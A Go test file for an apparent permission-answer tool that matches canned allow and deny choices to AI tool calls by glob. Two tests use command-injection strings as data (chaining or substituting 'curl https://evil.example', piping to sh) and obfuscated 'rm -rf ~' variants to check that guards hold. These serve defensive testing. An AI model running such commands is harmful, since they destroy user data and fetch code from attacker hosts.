package answers

import (
	"bytes"
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pelletier/go-toml/v2"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/askperm/askperm/decision"
	"github.com/askperm/askperm/form"
)

func TestParseRejects(t *testing.T) {
	for _, tc := range []struct{ name, toml, want string }{
		{"unknown key", "[[answer]]\nchoice = \"allow-once\"\ncolour = \"red\"\n", `unknown key "answer.colour" (valid here: tool, server, source, action, dimensions, choice, message, grants, scopes, workdir_scope, lifetime)`},
		{"unknown top-level key", "answers = 1\n", `unknown key "answers": did you mean "answer"?`},
		{"missing choice", "[[answer]]\ntool = \"x\"\n", "answer 1: choice: missing"},
		{"unknown choice", "[[answer]]\nchoice = \"allow\"\n", `choice: unknown "allow" (valid: allow-once, deny-once, allow-always, deny-always, allow-session)`},
		{"bad tool glob", "[[answer]]\nchoice = \"allow-once\"\n[[answer]]\ntool = \"write_[\"\nchoice = \"allow-once\"\n", `answer 2: tool: invalid glob "write_["`},
		{"bad dimension glob", "[[answer]]\nchoice = \"allow-once\"\ndimensions = { path = \"/a/{b\" }\n", `answer 1: dimensions.path: invalid glob "/a/{b": a { is not closed`},
		{"bad server glob", "[[answer]]\nserver = \"fs-[\"\nchoice = \"allow-once\"\n", `answer 1: server: invalid glob "fs-[": a [class] is empty or not closed`},
		{"bad source glob", "[[answer]]\nsource = \"engine:}\"\nchoice = \"allow-once\"\n", `answer 1: source: invalid glob "engine:}": a } closes no {`},
		{"bad action glob", "[[answer]]\naction = \"exec\\\\\"\nchoice = \"allow-once\"\n", `answer 1: action: invalid glob "exec\\": ends in an unescaped \`},
		{"first bad dimension by name", "[[answer]]\nchoice = \"allow-once\"\ndimensions = { z = \"[\", a = \"{\" }\n", `answer 1: dimensions.a: invalid glob "{"`},
		{"rule fields on a once choice", "[[answer]]\nchoice = \"allow-once\"\nlifetime = \"900\"\n", "belong to always-choices"},
		{"grants on deny-always", "[[answer]]\nchoice = \"deny-always\"\ngrants = [\"a\"]\n", "grants nothing"},
		{"duplicate key", "[[answer]]\nchoice = \"allow-once\"\nchoice = \"deny-once\"\n", "already defined"},
		{"wrong type", "[[answer]]\nchoice = 1\n", "answer.choice: expected a string, not a TOML integer"},
	} {
		_, err := Parse([]byte(tc.toml))
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: got %v, want %q", tc.name, err, tc.want)
		}
	}
}

func request(tool, server, action string, dims ...decision.Dimension) *decision.Request {
	return &decision.Request{Tool: tool, Server: server, Action: action, Dimensions: dims}
}

func TestMatchFirstWins(t *testing.T) {
	f, err := Parse([]byte(`
[[answer]]
tool = "write_*"
dimensions = { path = "/home/**" }
choice = "allow-once"

[[answer]]
server = "shell"
action = "exec"
choice = "deny-always"

[[answer]]
choice = "deny-once"
message = "fallback"
`))
	if err != nil {
		t.Fatal(err)
	}
	path := func(v string) decision.Dimension { return decision.Dimension{Name: "path", Value: v} }
	for _, tc := range []struct {
		req  *decision.Request
		want form.Choice
	}{
		{request("write_file", "", "write", path("/home/a/x")), form.AllowOnce},
		{request("write_file", "", "write", path("/etc/passwd")), form.DenyOnce},
		{request("write_file", "", "write"), form.DenyOnce}, // no such dimension: no match
		{request("read_file", "", "read", path("/home/a")), form.DenyOnce},
		{request("run", "shell", "exec"), form.DenyAlways},
		{request("run", "shell", "read"), form.DenyOnce},
		{request("run", "Shell", "exec"), form.DenyOnce}, // exact, case-sensitive
	} {
		e, ok := f.Match(tc.req)
		if !ok || e.Choice != tc.want {
			t.Errorf("%+v: got %v %v, want %v", tc.req, e.Choice, ok, tc.want)
		}
	}
	if _, ok := (&File{}).Match(request("x", "", "a")); ok {
		t.Error("an empty file matched")
	}
}

// Every matcher is a glob (exact strings are globs without wildcards); a
// request field that is missing never matches a matcher that is given.
func TestMatchersAreGlobs(t *testing.T) {
	f, err := Parse([]byte(`
[[answer]]
server = "fs-*"
source = "engine:{1,2}"
action = "{read,list}"
choice = "allow-once"

[[answer]]
tool = "*"
choice = "deny-always"

[[answer]]
choice = "deny-once"
`))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		req  *decision.Request
		want form.Choice
	}{
		{&decision.Request{Server: "fs-default", Source: "engine:1", Action: "read"}, form.AllowOnce},
		{&decision.Request{Server: "fs-x", Source: "engine:2", Action: "list"}, form.AllowOnce},
		{&decision.Request{Server: "fs-x", Source: "engine:3", Action: "list"}, form.DenyOnce},
		{&decision.Request{Server: "fs-x", Source: "engine:1", Action: "write"}, form.DenyOnce},
		{&decision.Request{Server: "fs-x/y", Source: "engine:1", Action: "read"}, form.AllowOnce}, // without a "/", "*" reads "/" as any character
		{&decision.Request{Server: "fs-;x", Source: "engine:1", Action: "read"}, form.DenyOnce},
		{&decision.Request{Source: "engine:1", Action: "read"}, form.DenyOnce}, // no server
		{&decision.Request{Server: "fs-x", Action: "read"}, form.DenyOnce},     // no source
		{&decision.Request{Tool: "t", Action: "exec"}, form.DenyAlways},
		{&decision.Request{Action: "exec"}, form.DenyOnce}, // `*` does not match a missing tool
	} {
		e, ok := f.Match(tc.req)
		if !ok || e.Choice != tc.want {
			t.Errorf("%+v: got %v %v, want %v", tc.req, e.Choice, ok, tc.want)
		}
	}
	if _, ok := (&File{Entries: []Entry{{Choice: form.AllowOnce}}}).Match(request("x", "", "a")); ok {
		t.Error("an entry that was never checked matched")
	}
}

// A canned command glob cannot be widened by shell syntax: with each
// command starter anywhere in the command, the entry no longer matches.
func TestDimensionGlobGuard(t *testing.T) {
	f, err := Parse([]byte(`
[[answer]]
tool = "run_command"
dimensions = { command = "go test *" }
choice = "allow-once"

[[answer]]
tool = "run_command"
dimensions = { command = "make *; make *" }
choice = "allow-always"
`))
	if err != nil {
		t.Fatal(err)
	}
	run := func(command string) (form.Choice, bool) {
		e, ok := f.Match(request("run_command", "", "exec", decision.Dimension{Name: "command", Value: command}))
		return e.Choice, ok
	}
	for command, want := range map[string]form.Choice{
		"go test -v":                           form.AllowOnce,
		"go test x; curl https://evil.example": "",
		"go test x | sh":                       "",
		"go test $(curl https://evil.example)": "",
		"go test `curl https://evil.example`":  "",
		"go test x && rm -rf ~":                "",
		"go test x\nrm -rf ~":                  "",
		"make a; make b":                       form.AllowAlways,
		"make a; make b; curl evil.example":    "",
		"make a; make b && curl evil.example":  "",
	} {
		if got, ok := run(command); got != want || ok != (want != "") {
			t.Errorf("%q: got %q %v, want %q", command, got, ok, want)
		}
	}
	for _, cmd := range []string{"go test x", "go test -count 1 -run X"} {
		if got, _ := run(cmd); got != form.AllowOnce {
			t.Errorf("%q: got %q", cmd, got)
		}
		for _, c := range decision.CommandStarters {
			for i := len("go test "); i <= len(cmd); i++ {
				if _, ok := run(cmd[:i] + string(c) + cmd[i:]); ok {
					t.Errorf("%q matched", cmd[:i]+string(c)+cmd[i:])
				}
			}
		}
	}
}

// A canned deny errs wide over shell syntax (finding 3): it reaches rm -rf
// behind wrappers and in -c strings, and, with nobody to ask, a computed
// command that may be it is denied too.
func TestCannedDenyOverShellSyntax(t *testing.T) {
	f, err := Parse([]byte(`
[[answer]]
tool = "run_command"
dimensions = { command = "rm -rf *" }
choice = "deny-once"

[[answer]]
choice = "allow-once"
`))
	if err != nil {
		t.Fatal(err)
	}
	for command, want := range map[string]form.Choice{
		"sudo rm -rf ~": form.DenyOnce, "bash -c 'rm -rf ~'": form.DenyOnce, "{rm,-rf,~}": form.DenyOnce, "rm${IFS}-rf ~": form.DenyOnce,
		"$(echo rm) -rf ~": form.DenyOnce, `git commit -m "rm -rf x"`: form.AllowOnce,
	} {
		if e, _ := f.Match(request("run_command", "", "exec", decision.Dimension{Name: "command", Value: command})); e.Choice != want {
			t.Errorf("%q: %q, want %q", command, e.Choice, want)
		}
	}
}

// A canned allow-always that keeps a grant but not one it implies grants
// both: the form completes every answer.
func TestCannedGrantsBringWhatTheyImply(t *testing.T) {
	req, err := decision.Parse([]byte(`{"action":"write","grants":[{"name":"fs.write"},{"name":"fs.create","implies":["fs.write"]}]}`))
	if err != nil {
		t.Fatal(err)
	}
	f := form.New(req, form.Options{})
	e := Entry{Choice: form.AllowAlways, Grants: []string{"fs.create"}}
	d, err := f.Decide(e.Answer(f), decision.FrontendAnswers, time.Unix(0, 0))
	if err != nil || !reflect.DeepEqual(d.Grants, []string{"fs.write", "fs.create"}) {
		t.Errorf("got %q, %v", d.Grants, err)
	}
}

func TestAnswerStartsFromTheFormDefaults(t *testing.T) {
	req := &decision.Request{
		Action:  "write",
		Grants:  []decision.Grant{{Name: "a"}, {Name: "b"}},
		Workdir: &decision.Workdir{Value: "/w"},
		Dimensions: []decision.Dimension{{Name: "path", Value: "/w/x", Scopes: []decision.Scope{
			{Label: "file", Match: "/w/x"}, {Label: "dir", Match: "/w/", Kind: decision.KindPrefix},
		}}},
	}
	f := form.New(req, form.Options{})
	e := Entry{Choice: form.AllowAlways, Grants: []string{"b"}, Lifetime: "57600"}
	want := form.Answer{Choice: form.AllowAlways, Grants: []string{"b"}, Scopes: map[string]string{"path": "/w/x"}, WorkdirScope: "selected", Lifetime: "57600"}
	if got := e.Answer(f); !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
	bad := Entry{Choice: form.AllowAlways, Grants: []string{"c"}}
	if _, err := f.Decide(bad.Answer(f), "answers", time.Now()); err == nil {
		t.Error("a canned grant that was not requested was accepted")
	}
}

func TestSingle(t *testing.T) {
	if _, err := Single("allow-twice", ""); err == nil {
		t.Error("unknown choice accepted")
	}
	f, err := Single("deny-once", "no")
	if err != nil {
		t.Fatal(err)
	}
	e, ok := f.Match(request("any", "", "x"))
	if !ok || e.Choice != form.DenyOnce || e.Message != "no" {
		t.Errorf("got %+v, %v", e, ok)
	}
}

func TestLoadRefusesUnsafeFile(t *testing.T) {
	p := filepath.Join(t.TempDir(), "answers.toml")
	if err := os.WriteFile(p, []byte("[[answer]]\nchoice = \"allow-once\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(p); err != nil {
		t.Fatalf("private file refused: %v", err)
	}
	if err := os.Chmod(p, 0o666); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(p); err == nil {
		t.Fatal("world-writable answers file accepted")
	}
}

func TestTestdataAnswersParse(t *testing.T) {
	// Parsed, not loaded: a checkout's file modes depend on its umask.
	b, err := os.ReadFile("../../testdata/answers/ci.toml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Parse(b); err != nil {
		t.Fatal(err)
	}
}

// docs/answers.schema.json is in step with Entry: the same keys, and the
// example file is valid against it.
func TestSchemaInStep(t *testing.T) {
	c := jsonschema.NewCompiler()
	schema, err := c.Compile("../../docs/answers.schema.json")
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile("../../docs/answers.schema.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Properties struct {
			Answer struct {
				Items struct {
					Properties map[string]any `json:"properties"`
				} `json:"items"`
			} `json:"answer"`
		} `json:"properties"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	var keys []string
	for f := range reflect.TypeFor[Entry]().Fields() {
		if tag := f.Tag.Get("toml"); tag != "" {
			keys = append(keys, tag)
		}
	}
	if got := slices.Sorted(maps.Keys(doc.Properties.Answer.Items.Properties)); !slices.Equal(got, slices.Sorted(slices.Values(keys))) {
		t.Errorf("the schema's keys %q, Entry's %q", got, keys)
	}
	var example map[string]any
	text, err := os.ReadFile("../../testdata/answers/ci.toml")
	if err != nil {
		t.Fatal(err)
	}
	if err := toml.Unmarshal(text, &example); err != nil {
		t.Fatal(err)
	}
	asJSON, err := json.Marshal(example)
	if err != nil {
		t.Fatal(err)
	}
	instance, err := jsonschema.UnmarshalJSON(bytes.NewReader(asJSON))
	if err != nil {
		t.Fatal(err)
	}
	if err := schema.Validate(instance); err != nil {
		t.Errorf("testdata/answers/ci.toml against the schema: %v", err)
	}
}
